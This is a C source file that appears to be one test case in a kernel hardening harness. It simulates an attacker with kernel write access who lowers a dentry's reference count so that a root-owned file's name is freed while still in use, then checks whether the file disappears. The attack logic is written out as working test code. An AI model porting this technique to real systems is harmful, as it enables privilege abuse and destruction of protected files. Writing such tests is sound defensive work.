// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "name_freed_in_use", "cred_integrity: a name freed while it is in use",
       "The program looks at a file of root's without opening it, and writes down how many refer "
       "to its name, so that the name goes when the program has looked enough.",
       "The sealed list of names counts in the name's record, as do open files and places; what "
       "is counted is not freed.",
       "Root's file is gone, from a directory in which the program may not write.");

static bool control(void)
{
	return is_ordinary() && call1(__NR_unlink, (long)PUBLIC) == -EACCES;
}

static bool fire(void)
{
	const long file = call3(__NR_open, (long)PUBLIC, O_PATH, 0);
	const uint64_t name = peek(file_struct(own_task(), (int)file) + member("file.path") +
				   member("path.dentry"));

	poke_references(name + member("dentry.references"), 1);
	call1(__NR_close, file);
	return call3(__NR_open, (long)PUBLIC, O_RDONLY, 0) == -ENOENT;
}

static void victim(void)
{
	victim_waits();
}
